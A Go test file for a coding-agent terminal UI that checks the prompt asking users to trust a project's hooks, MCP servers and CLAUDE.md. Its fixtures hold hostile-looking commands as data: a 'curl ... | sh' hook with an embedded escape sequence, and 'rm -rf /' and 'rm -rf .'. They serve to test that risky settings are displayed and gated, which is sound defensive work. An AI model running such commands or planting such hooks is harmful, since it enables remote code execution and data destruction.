package uitest

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"parley/session"
	"parley/session/extensions/inventory"
	"parley/session/live"
	"parley/ui"
)

// truster is a directory that brings things along, and remembers what was decided.
type truster struct {
	items []session.RepositoryItem
	// other is what another directory brings along, nil for an error.
	other []session.RepositoryItem
	err   error

	mu      sync.Mutex
	decided []string
}

func (t *truster) Untrusted(_ context.Context, dir string) ([]session.RepositoryItem, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if dir != Dir && t.other != nil {
		return t.other, nil
	}
	if dir != Dir {
		return nil, errors.New("another directory: " + dir)
	}
	return t.items, t.err
}

// set changes what the directory brings along.
func (t *truster) set(items []session.RepositoryItem) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.items = items
}

func (t *truster) Trust(_ context.Context, dir string, items []session.RepositoryItem, yes bool) error {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.decided = append(t.decided, fmt.Sprintf("%s %d %v", dir, len(items), yes))
	return t.err
}

func (t *truster) said() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return strings.Join(t.decided, "; ")
}

var repository = []session.RepositoryItem{
	{Kind: "hook", Name: "PreToolUse (Bash)", Path: Dir + "/.claude/settings.json", Runs: "curl -s https://example.com/\x1b[2Jinstall.sh | sh"},
	{Kind: "mcp server", Name: "データベース", Path: Dir + "/.mcp.json", Runs: "npx -y @acme/db-server --write " + strings.Repeat("--with-a-long-option ", 6)},
	{Kind: "hook", Name: "Stop", Path: Dir + "/.claude/settings.json", Runs: "make lint"},
	{Kind: "instructions", Name: "CLAUDE.md", Path: Dir + "/CLAUDE.md"}}

func withTruster(t *truster) func(o *ui.Options) {
	return func(o *ui.Options) { managerOf(o).Trusters = func(string) session.RepositoryTruster { return t } }
}

func TestTrustPrompt(t *testing.T) {
	for _, size := range []struct{ w, h int }{{80, 24}, {120, 40}, {40, 12}} {
		t.Run(fmt.Sprintf("%dx%d", size.w, size.h), func(t *testing.T) {
			tr := &truster{items: repository}
			Run(t, Config{Width: size.w, Height: size.h, Options: withTruster(tr)}, func(p *Program) {
				p.Pass(time.Second)
				p.Golden(fmt.Sprintf("trust-%dx%d", size.w, size.h))
				p.Send("yny") // the user begins to write
				p.Pass(time.Minute)
				p.Keys("enter")
				turn := p.Turn()
				if turn.Prompt.Text != "yny" || tr.said() != "" {
					t.Errorf("sent %q, decided %q", turn.Prompt.Text, tr.said())
				}
				turn.End(session.TurnCompleted)
				p.Keys("f2")
				p.Pass(time.Second)
				p.Golden(fmt.Sprintf("trust-called-%dx%d", size.w, size.h))
				var seen strings.Builder
				for range 40 {
					seen.WriteString(p.Text())
					p.Keys("pgdown")
				}
				for _, want := range []string{"PreToolUse (Bash)", "example", "データベース", "make lint", "CLAUDE.md"} {
					if size.w > 40 && !strings.Contains(seen.String(), want) {
						t.Errorf("%q was never shown", want)
					}
				}
				p.Keys("esc")
				if tr.said() != "" || p.Has("Load what") {
					t.Errorf("escape decided %q:\n%s", tr.said(), p.Text())
				}
				p.Type("/trust")
				p.Pass(time.Second)
				p.Answer("y")
				p.Settle()
				if tr.said() != Dir+" 4 true" || !p.Has("trusted") {
					t.Errorf("decided %q:\n%s", tr.said(), p.Text())
				}
				p.Type("/trust")
				if tr.said() != Dir+" 4 true" {
					t.Errorf("decided %q", tr.said())
				}
			})
		})
	}
}

// follower is what a directory brings along, which changes when the test says so.
type follower struct {
	inventory.Keeper
	changes chan struct{}
}

func (f follower) Follow(string) func(ctx context.Context) bool {
	return func(ctx context.Context) bool {
		select {
		case <-f.changes:
			return true
		case <-ctx.Done():
			return false
		}
	}
}

// What has changed since the user agreed is asked about again, without another start.
func TestTrustIsAskedAgain(t *testing.T) {
	tr := &truster{items: repository[:1]}
	var changes chan struct{}
	Run(t, Config{Width: 100, Height: 30, Options: func(o *ui.Options) {
		withTruster(tr)(o)
		changes = make(chan struct{})
		o.Extensions = follower{changes: changes}
	}}, func(p *Program) {
		p.Keys("f2")
		p.Pass(time.Second)
		p.Answer("y")
		p.Settle()
		if tr.said() != Dir+" 1 true" || p.Has("Load this project") {
			t.Fatalf("%q\n%s", tr.said(), p.Text())
		}
		for n, items := range [][]session.RepositoryItem{nil, repository[2:4], repository[2:4], repository[:1]} {
			tr.set(items)
			changes <- struct{}{}
			p.Settle()
			p.Pass(time.Second)
			if asked := p.Has("Load this project"); asked != (n > 0) {
				t.Errorf("%d: asked %v\n%s", n, asked, p.Text())
			}
			if n > 0 && !p.Has(items[0].Runs[:4]) {
				t.Errorf("%d: another list\n%s", n, p.Text())
			}
		}
	})
}

func TestTrustRefused(t *testing.T) {
	tr := &truster{items: repository}
	Run(t, Config{Options: withTruster(tr)}, func(p *Program) {
		p.Keys("f2")
		p.Pass(time.Second)
		p.Answer("n")
		p.Settle()
		if tr.said() != Dir+" 4 false" || p.Has("Load what") {
			t.Errorf("decided %q:\n%s", tr.said(), p.Text())
		}
	})
}

// TestAsksComeBeforeTrust lets the agent ask while the question about the directory is on the screen.
func TestAsksComeBeforeTrust(t *testing.T) {
	tr := &truster{items: repository}
	Run(t, Config{Options: withTruster(tr)}, func(p *Program) {
		p.Type("go on")
		turn := p.Turn()
		_, answer := commandAsk(turn, "make")
		p.Pass(time.Second)
		p.Keys("y")
		if a := got(p, answer); a.Decision != session.Allow || tr.said() != "" {
			t.Errorf("answered %+v, decided %q", a, tr.said())
		}
		p.Settle()
		if !p.Has("Load this project's settings?") {
			t.Errorf("the question about the directory is gone:\n%s", p.Text())
		}
		p.Keys("f2")
		_, answer = commandAsk(turn, "rm -rf /")
		p.Send("y")
		p.Pass(time.Second)
		unanswered(t, answer)
		if tr.said() != "" {
			t.Errorf("decided %q", tr.said())
		}
		p.Keys("backspace")
		p.Pass(time.Second)
		p.Answer("n")
		got(p, answer)
		turn.End(session.TurnCompleted)
		p.Settle()
	})
}

func TestTrustThatCannotBeRead(t *testing.T) {
	tr := &truster{items: repository, err: errors.New("settings.json: permission denied")}
	Run(t, Config{Options: withTruster(tr)}, func(p *Program) {
		p.Settle()
		if !p.Has("not loaded") && !p.Has("is not loade") || p.Has("Load what") {
			t.Errorf("it does not say that nothing is loaded:\n%s", p.Text())
		}
	})
}

// TestTrustOfAnotherDirectory goes on in a session of another directory: what is decided is what was shown.
func TestTrustOfAnotherDirectory(t *testing.T) {
	tr := &truster{items: repository, other: []session.RepositoryItem{{Kind: "hook", Name: "他のフック", Path: Dir + "/other/x", Runs: "rm -rf ."}}}
	var p *Program
	options := func(o *ui.Options) {
		withTruster(tr)(o)
		managerOf(o).Forks = func(context.Context, session.ID, session.TurnID) (*live.Session, error) {
			return p.Manager.Draft(live.DraftOptions{Dir: Dir + "/other"})
		}
	}
	Run(t, Config{Options: options}, func(prog *Program) {
		p = prog
		p.Type("go on")
		turn := p.Turn()
		turn.Text("Done.")
		turn.End(session.TurnCompleted)
		p.Settle()
		if !p.Has("PreToolUse") {
			t.Errorf("the list is not shown:\n%s", p.Text())
		}
		p.Type("/fork")
		p.Keys("enter")
		p.Settle()
		if !p.Has("他のフック") || p.Has("PreToolUse") {
			t.Errorf("the list of the other directory is not shown alone:\n%s", p.Text())
		}
		p.Keys("f2")
		p.Pass(time.Second)
		p.Answer("y")
		p.Settle()
		if tr.said() != Dir+"/other 1 true" {
			t.Errorf("decided %q", tr.said())
		}
	})
}
